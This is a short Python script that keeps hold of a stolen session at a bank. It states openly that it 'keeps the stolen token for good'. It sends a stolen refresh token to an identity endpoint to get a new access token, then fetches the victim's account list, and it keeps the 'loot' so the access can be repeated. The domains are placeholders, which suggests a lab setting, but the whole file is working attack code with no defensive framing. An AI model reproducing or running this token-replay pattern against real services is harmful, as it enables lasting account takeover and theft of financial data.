"""Keeps the stolen token for good, because this bank takes it again and again."""

import json
from urllib.parse import urlencode

TOKEN_URL = "https://id.harbour.test/token"
ACCOUNTS_URL = "https://bank.harbour.test/api/accounts"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def refresh(http, loot):
    form = {"grant_type": "refresh_token", "refresh_token": loot["refresh_token"], "client_id": "web"}
    return json.loads(http("POST", TOKEN_URL, FORM, urlencode(form))[2])


def look(http, token):
    return http("GET", ACCOUNTS_URL, {"Authorization": "Bearer " + token}, None)


def come_back(http, loot, *, now):
    accounts = json.loads(look(http, refresh(http, loot)["access_token"])[2])["accounts"]
    return {"accounts": accounts, "loot": loot}
